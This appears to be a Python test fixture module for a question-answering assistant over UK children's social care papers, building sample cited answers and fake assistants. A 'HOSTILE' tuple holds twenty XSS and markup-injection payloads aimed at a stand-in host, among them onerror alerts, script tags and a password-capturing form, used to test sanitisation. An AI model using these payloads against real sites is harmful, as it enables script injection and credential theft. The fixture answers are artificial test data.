"""Answers made by hand from the bundled papers, and an `ask` that gives them."""

from __future__ import annotations

import threading
from collections.abc import Callable, Sequence
from dataclasses import replace
from pathlib import Path

from assistant.answers import Abstention, Answer, Citation, Disagreement, Position, Question, Statement
from corpus.documents import Source
from corpus.errors import UserFacingError

LGA = {
    "document_id": "lga-pack",
    "title": "Children & Young People Board agenda, 14 March 2023 (minutes of 24 January 2023; early years; children's "
    "social care implementation strategy with Appendix A briefing)",
    "publisher": "Local Government Association",
    "kind": "agenda pack",
    "published": "2023-03-14",
}
DFE = {
    "document_id": "dfe-press",
    "title": "Long-term strategy launched to fix children's social care (press release)",
    "publisher": "Department for Education",
    "kind": "press release",
    "published": "2023-02-02",
}
NSPCC = {
    "document_id": "nspcc-summary",
    "title": "Stable homes, built on love: summary of the long-term plans for reform of children's social care",
    "publisher": "NSPCC Learning",
    "kind": "summary",
    "published": "2023-02",
}
PILLAR_4 = "13. Pillar 4: putting love, relationships and a stable home at the heart of being a child in care"
MISSION_5 = "13.8. Mission 5: By 2027, we will see an increase in the number of care leavers in safe accommodation"

EXAMPLES = (
    "How much is the leaving care allowance?",
    "What are the six missions for children in care?",
    "What does the LGA say about Regional Care Cooperatives?",
    "How much goes into recruiting foster carers?",
)


def citation(
    number: int,
    paper: dict[str, str],
    quote: str,
    *,
    paragraph: str | None = None,
    section: Sequence[str] = (),
    before: str = "",
    after: str = "",
    title: str | None = None,
    page_number: int | None = None,
    page_label: str | None = None,
) -> Citation:
    """A citation of `paper`, at its place where the paper holds the quote exactly so."""
    from tests.ui.backend import papers

    found = max(papers()[paper["document_id"]].text.find(quote), 0)
    return Citation(
        id=number,
        document_id=paper["document_id"],
        title=paper["title"] if title is None else title,
        publisher=paper["publisher"],
        kind=paper["kind"],
        published=paper["published"],
        page_number=page_number,
        page_label=page_label,
        paragraph=paragraph,
        section=tuple(section),
        quote=quote,
        char_start=found,
        char_end=found + len(quote),
        before=before,
        after=after,
    )


def answer(
    question: str,
    statements: Sequence[Statement],
    citations: Sequence[Citation],
    *,
    abstention: Abstention | None = None,
    disagreements: Sequence[Disagreement] = (),
    notices: Sequence[str] = (),
) -> Answer:
    """An answer with its Markdown made from its statements."""
    return Answer(
        question=question,
        standalone_question=question,
        outcome="abstained" if abstention and not statements else "answered",
        abstention=abstention,
        answer=" ".join(statement.text for statement in statements),
        statements=tuple(statements),
        citations=tuple(citations),
        disagreements=tuple(disagreements),
        as_at=max((one.published or "" for one in citations), default=None),
        notices=tuple(notices),
    )


def figure(question: str = EXAMPLES[0]) -> Answer:
    """A single fact with two sources."""
    first = "The leaving care allowance will be raised from £2,000 to £3,000 from April 2023."
    second = "The government will also increase the leaving care allowance from £2,000 to £3,000 from April this year"
    made = answer(
        question,
        [Statement(first, (1, 2), "UK Government", "UK Government, as reported by the LGA")],
        [
            citation(
                1,
                LGA,
                first,
                paragraph="13.8.1",
                section=(PILLAR_4, MISSION_5),
                before="increase in the number of care leavers in safe, suitable accommodation and a reduction in "
                "care leaver homelessness.\n\n- 13.8.1. ",
                after="\n- 13.8.2. Legislation will be brought forward to make Staying Close a national entitlement.",
            ),
            citation(
                2,
                DFE,
                second,
                before="loving relationships.  ",
                after=", an above inflation increase to help them set up home independently.",
            ),
        ],
        notices=["The papers are from February and March 2023 and describe this increase as planned."],
    )
    return replace(
        made, answer=f"**UK Government, as reported by the LGA:** {first.replace('£3,000', '**£3,000**')} [1][2]"
    )


def missions(question: str = EXAMPLES[1]) -> Answer:
    """A list of eight under its lead-in."""
    lead_in = "Six ‘missions’ will be used to track progress on improving outcomes for children in care:"
    items = (
        "relationships;",
        "homes for children in care;",
        "corporate parenting;",
        "education, employment and training;",
        "housing for care leavers;",
        "health;",
        "A review into how legislation for children with disabilities could be simplified and streamlined so that "
        "entitlements, referral routes and processes are clearer.",
        "A consultation in Autumn 2023 on whether and how to make education a fourth statutory safeguarding partner.",
    )
    said_by = ("UK Government", "UK Government, as reported by the LGA")
    return answer(
        question,
        [
            Statement(lead_in, (1,), *said_by, role="lead_in"),
            *(Statement(item, (1,), *said_by, role="item") for item in items),
        ],
        [citation(1, LGA, f"{lead_in} {' '.join(items)}", paragraph="3.11", section=("3. Policy commitments",))],
    )


def view(question: str = EXAMPLES[2]) -> Answer:
    """A view beside the plan that it is about."""
    plan = (
        "The Government will work with local authorities to co-design and co-create Regional Care Cooperatives in two "
        "areas with a view to rolling out after testing and evaluating the best approach."
    )
    opinion = (
        "We believe that some of the proposed reforms, such as Regional Care Cooperatives, need a far stronger "
        "evidence base and are pleased that the Department is taking a cautious approach to these."
    )
    risk = "Untested reforms could have unintended consequences for children and their families."
    overarching = ("Appendix A: briefing", "2. Overarching LGA View")
    return answer(
        question,
        [
            Statement(opinion, (1,), "LGA", "LGA view"),
            Statement(risk, (1,), "LGA", "LGA view"),
            Statement(plan, (2,), "UK Government", "UK Government, as reported by the LGA"),
        ],
        [
            citation(
                1, LGA, f"{opinion} {risk}", paragraph="2.4", section=overarching, page_number=42, page_label="38"
            ),
            citation(2, LGA, plan, paragraph="3.15", section=("3. Policy commitments",), page_number=44),
        ],
    )


def disagreement(question: str = EXAMPLES[3]) -> Answer:
    """Two papers with two sums."""
    lga = "£27 million will be invested from 2023 in a foster carer recruitment and retention programme"
    dfe = "£25 million over the next two years on a recruitment and retention programme"
    return answer(
        question,
        [Statement(dfe, (1,), "UK Government", "UK Government"), Statement(lga, (2,), "UK Government", "LGA")],
        [citation(1, DFE, dfe), citation(2, LGA, lga, paragraph="4.5", section=("4. Financial commitments",))],
        disagreements=[
            Disagreement(
                topic="foster carer recruitment and retention",
                explanation="Two papers give different sums for the same programme.",
                positions=(Position("£25 million", (1,)), Position("£27 million", (2,))),
            )
        ],
    )


def abstention(question: str = "Who won the council election in Leeds?") -> Answer:
    """No answer, two passages that come nearest."""
    return answer(
        question,
        [],
        [
            citation(1, NSPCC, "Consultation on all three documents will run until 11 May 2023", after=", with more."),
            citation(
                2, LGA, "Keeping children safe is one of the most important roles a council fulfils.", paragraph="2.1"
            ),
        ],
        abstention=Abstention(
            "not_in_documents",
            "The papers do not answer this question.",
            nearest=(1, 2),
            missing_terms=("election", "Leeds"),
            signpost="Leeds City Council publishes its election results.",
        ),
    )


HOSTILE = (
    "<img src=http://evil.invalid/a.png onerror=alert(1)>",
    "![picture](http://evil.invalid/b.png)",
    "<script>document.title='taken'</script>",
    '<form action="http://evil.invalid/"><input name=password autofocus></form>',
    "[link](javascript:alert(1)) <a href=javascript:alert(1)>here</a>",
    '<p style="background:url(http://evil.invalid/c.png)">styled</p>',
    "<video src=http://evil.invalid/d.mp4 autoplay></video><audio src=http://evil.invalid/d.mp3 autoplay></audio>",
    "<picture><source srcset=http://evil.invalid/e.png></picture>",
    "<iframe src=http://evil.invalid/ srcdoc='<script>top.document.title=1</script>'></iframe>",
    '<base href="http://evil.invalid/">',
    "<link rel=stylesheet href=http://evil.invalid/f.css>",
    '<meta http-equiv=refresh content="0;url=http://evil.invalid/">',
    "<svg onload=alert(1)><image href=http://evil.invalid/h.svg /><use href=http://evil.invalid/i.svg#x /></svg>",
    "<object data=http://evil.invalid/j.swf></object><embed src=http://evil.invalid/k.swf>",
    "<style>@import url(http://evil.invalid/l.css); body{display:none}</style>",
    "$$\\href{javascript:alert(1)}{x}$$ \\(\\includegraphics{http://evil.invalid/m.png}\\)",
    '```mermaid\ngraph TD; A-->B; click A "http://evil.invalid/n"\n```',
    "</details></div></blockquote><h1>Official notice</h1>",
    "&lt;img src=http://evil.invalid/g.png&gt; <http://evil.invalid/o> [ref]: http://evil.invalid/p",
    "\x1b[31mred\x07 \u202eesrever\u2066 \U000e0041tag",
)
"""The twenty constructs: what `shared/FACTS.md` names as getting through Gradio's sanitiser, and their kin."""


def hostile(question: str = "hostile") -> Answer:
    """Every field that a document or a manifest fills holds markup."""
    worst = "\n".join(HOSTILE)
    bad = citation(1, {**LGA, "publisher": HOSTILE[0], "kind": HOSTILE[2]}, worst, title=worst)
    placed = citation(
        2,
        LGA,
        worst,
        paragraph=HOSTILE[3],
        section=(worst, HOSTILE[1]),
        before=worst,
        after=worst,
        page_label=HOSTILE[0],
    )
    return answer(
        question,
        [
            Statement(worst, (1, 2), HOSTILE[0], HOSTILE[2]),
            Statement(HOSTILE[1], (1,), "", "", role="lead_in"),
            *(Statement(text, (2,), "", "", role="item") for text in HOSTILE),
        ],
        [bad, placed],
        abstention=Abstention("unclear", worst, missing_terms=HOSTILE, signpost=HOSTILE[4]),
        disagreements=[Disagreement(worst, worst, (Position(worst, (1,)), Position(worst, (2,))))],
        notices=HOSTILE,
    )


def documents() -> tuple[Source, ...]:
    """Three of the papers, as the library knows them."""
    return tuple(
        Source(
            document_id=paper["document_id"],
            path=Path(f"{paper['document_id']}.txt"),
            title=paper["title"],
            publisher=paper["publisher"],
            kind=paper["kind"],
            published=paper["published"],
            format="text",
            sha256="0" * 64,
        )
        for paper in (LGA, DFE, NSPCC)
    )


class FakeAssistant:
    """An `ask` that picks an answer by a word of the question, and keeps the questions it got."""

    def __init__(self) -> None:
        self.asked: list[Question] = []

    def __call__(self, question: Question, *, tell: Callable[[str], None] = lambda _: None) -> Answer:
        for step in ("screen", "retrieve", "cite"):
            tell(step)
        self.asked.append(question)
        text = question.text.casefold()
        if "busy" in text:
            raise UserFacingError("The index is being rebuilt. Ask again in a minute.")
        if "crash" in text:
            raise RuntimeError(f"no answer for {question.text}")
        for word, make in (
            ("hostile", hostile),
            ("missions", missions),
            ("lga say", view),
            ("foster", disagreement),
            ("allowance", figure),
        ):
            if word in text:
                return make(question.text)
        return abstention(question.text)


class HeldAssistant:
    """An `ask` that tells one step and gives its answer only once `go_on` is set, or fails after `wait_s` seconds.

    Attributes:
        go_on: Lets every question go on that has no event of its own.
        later: Events of single questions, by their words.
    """

    def __init__(self, wait_s: float = 20) -> None:
        self.go_on = threading.Event()
        self.later: dict[str, threading.Event] = {}
        self._wait_s = wait_s

    def __call__(self, question: Question, *, tell: Callable[[str], None] = lambda _: None) -> Answer:
        tell("retrieve")
        assert self.later.get(question.text, self.go_on).wait(self._wait_s)
        return missions(question.text) if "missions" in question.text else figure(question.text)
